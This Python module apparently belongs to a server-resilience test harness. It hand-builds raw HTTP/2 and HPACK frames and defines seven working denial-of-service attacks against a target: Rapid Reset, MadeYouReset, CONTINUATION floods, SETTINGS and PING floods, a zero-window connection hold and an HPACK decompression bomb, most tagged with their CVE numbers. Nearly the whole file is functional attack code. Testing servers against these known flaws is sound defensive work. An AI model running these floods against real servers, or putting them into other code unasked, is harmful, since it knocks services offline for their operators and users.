"""What HTTP/2 lets a client do that costs the client little. The frames are written here: libraries refuse to send most
of them."""

from __future__ import annotations

import struct
from collections.abc import Callable

from attack import Attack, Target
from flooding import flood
from holding import hold

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = struct.pack(">I", 8)
STREAMS = 100
"""How many requests the server lets a connection have at once."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """RFC 9113, 4.1."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value: int, bits: int, flags: int = 0) -> bytes:
    """RFC 7541, 5.1: a prefix of so many bits, and the rest in groups of seven."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([flags | value])
    groups, rest = [], value - most
    while rest >= 128:
        groups.append(rest & 0x7F | 0x80)
        rest >>= 7
    return bytes([flags | most, *groups, rest])


def field(name: bytes, value: bytes, remembered: bool = False) -> bytes:
    """A literal field, which the table keeps or not: RFC 7541, 6.2.1 and 6.2.2."""
    kind = b"\x40" if remembered else b"\0"
    return kind + integer(len(name), 7) + name + integer(len(value), 7) + value


def setting(identifier: int, value: int) -> bytes:
    return frame(SETTINGS, 0, 0, struct.pack(">HI", identifier, value))


def head(path: bytes) -> bytes:
    """GET by http of the table, RFC 7541, A."""
    return b"\x82\x86" + field(b":path", path) + field(b":authority", b"a")


def request(stream: int, path: bytes) -> bytes:
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, head(path))


def streams_of(turn: int, count: int) -> range:
    """The numbers of the next so many streams of a client's."""
    return range(2 * count * turn + 1, 2 * count * (turn + 1), 2)


BEGINNING = PREFACE + frame(SETTINGS, 0, 0)


def requests_and(after: Callable[[int], bytes]) -> Callable[[int], bytes]:
    """Fifty requests at a time, each followed by a frame of its stream."""
    return lambda turn: b"".join(request(stream, b"/sleep/1000") + after(stream) for stream in streams_of(turn, 50))


def rapid_reset(target: Target) -> str:
    return flood(target, BEGINNING, requests_and(lambda stream: frame(RST_STREAM, 0, stream, CANCEL)))


def made_you_reset(target: Target) -> str:
    return flood(target, BEGINNING, requests_and(lambda stream: frame(WINDOW_UPDATE, 0, stream, bytes(4))))


def continuation(target: Target) -> str:
    piece = frame(CONTINUATION, 0, 1, field(b"x", b"a" * 120) * 100)
    return flood(target, BEGINNING + frame(HEADERS, END_STREAM, 1, head(b"/plain")), lambda _: piece)


def settings(target: Target) -> str:
    return flood(target, BEGINNING, lambda _: setting(3, 100) * 500)


def pings(target: Target) -> str:
    return flood(target, BEGINNING, lambda _: frame(PING, 0, 0, b"12345678") * 500, reads=False)


def zero_window(target: Target) -> str:
    """SETTINGS_INITIAL_WINDOW_SIZE of 0: answers are made, and none may be sent."""
    asked = b"".join(request(stream, b"/bytes/10000") for stream in streams_of(0, STREAMS))
    return hold(target, 100, [PREFACE + setting(4, 0) + asked])


def bomb(stream: int) -> bytes:
    """A field of 3,900 bytes that is remembered, and then named 15,000 times by a byte each."""
    block = head(b"/plain") + field(b"x", b"a" * 3_900, remembered=True)
    return frame(HEADERS, END_STREAM, stream, block) + frame(CONTINUATION, END_HEADERS, stream, b"\xbe" * 15_000)


def hpack_bomb(target: Target) -> str:
    return flood(target, BEGINNING, lambda turn: bomb(2 * turn + 1))


def attack(name: str, about: str, run: Callable[[Target], str]) -> Attack:
    return Attack(name, about, run, "streams", "--http-protocols h1,h2", classes=("green",))


ATTACKS = [
    attack("rapid-reset", "requests that are taken back at once (CVE-2023-44487)", rapid_reset),
    attack("made-you-reset", "requests that the server is made to reset (CVE-2025-8671)", made_you_reset),
    attack("continuation", "a head in CONTINUATION frames without end (CVE-2024-28182)", continuation),
    attack("settings", "SETTINGS, each of which is to be acknowledged (CVE-2019-9515)", settings),
    attack("pings", "PING, whose answers nobody reads (CVE-2019-9512)", pings),
    attack("zero-window", "100 connections of 100 requests each, with windows of no size", zero_window),
    attack("hpack-bomb", "heads of 19 KB that are 60 MB when they are unpacked", hpack_bomb),
]
